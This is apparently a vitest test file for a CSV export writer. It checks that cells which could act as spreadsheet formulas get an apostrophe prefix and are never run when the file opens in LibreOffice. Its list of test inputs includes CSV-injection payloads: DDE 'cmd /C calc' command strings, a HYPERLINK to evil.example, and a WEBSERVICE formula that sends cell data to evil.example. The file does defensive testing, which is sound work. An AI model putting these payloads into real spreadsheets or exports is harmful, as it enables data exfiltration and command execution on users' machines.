import { expect, test } from 'vitest';
import type { RowColumn } from '@/utils/exchange/rows/columns';
import { rowsWriter } from '@/utils/exchange/rows/file';
import { openInCalc, readCsv } from './spreadsheet';

/** Cells that a spreadsheet could take for more than a text, or for another one. */
const hostile = [
  '=1+1',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '+1+1',
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '"=1+1"',
  'a,b;c\td',
  'x;=1+1',
  'x; +1;y',
  'x\t@SUM(A1)',
  'two\n=1+1',
  'x|=1+1',
  '5; -2',
  'say "hi"',
  'two\nlines',
  'É日本語 مفتاح 😀',
  "it's",
  "'quoted",
  '||Hiking||Climbing||',
  '{"a":[1,2]}',
  'true',
  '1/2',
  '3-4',
  '2026-11-23',
  '2026-11-23T09:30:00-05:00',
  '12:30',
  '00750',
  '1.50',
  '1e5',
  '12345678901234567890',
  '-12.50',
  '0',
  '7',
  '',
];

const columns: readonly RowColumn[] = [
  { kind: 'name', name: 'id' },
  { kind: 'name', name: '=email' },
  { kind: 'field', id: '1', title: 'Größe, in cm' },
];

const rows = hostile.map((text, at) => ({
  id: String(at + 1),
  '=email': text,
  fieldValues: [{ field: '1', value: text }],
}));

const csvOf = (mark: boolean): string => {
  const writer = rowsWriter({ kind: 'csv', columns, mark });
  return `${writer.head}${writer.rows(rows)}${writer.foot()}`;
};

/** Where a piece of a cell would be a formula in a spreadsheet that splits it. */
const splitting = /([;|\t\r\n]\s*)(?=[=+\-@])(?!-\d+$)/g;

/** Where a cell stands for a formula, it says so with an apostrophe, and is else as it was. */
const written = (text: string): string => begun(text).replace(splitting, "$1'");

const begun = (text: string): string =>
  /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(text) && !/^-\d+(?:\.\d+)?$/.test(text)
    ? `'${text}`
    : text;

const expected = [
  ['id', "'=email", 'Größe, in cm'],
  ...hostile.map((text, at) => [String(at + 1), written(text), written(text)]),
];

test('it is CSV as its own reader reads it', () => {
  expect(readCsv(csvOf(false))).toEqual(expected);
});

test.each([false, true])(
  'LibreOffice shows the same cells, with the mark of UTF-8: %s',
  { timeout: 240_000 },
  (mark) => {
    const { cells } = openInCalc(csvOf(mark), columns.length);
    expect(cells).toEqual(expected);
  },
);

test('left to itself it executes no cell, and changes no number', { timeout: 240_000 }, () => {
  const { cells, xml } = openInCalc(csvOf(false));
  expect(xml).not.toMatch(/table:formula=|xlink:href=|table:dde-link/);
  expect(cells).toHaveLength(expected.length);
  for (const kept of ['00750', '12345678901234567890', "'=1+1", '1.50', '7', '0'])
    expect(cells.map((row) => row[1])).toContain(kept);
});
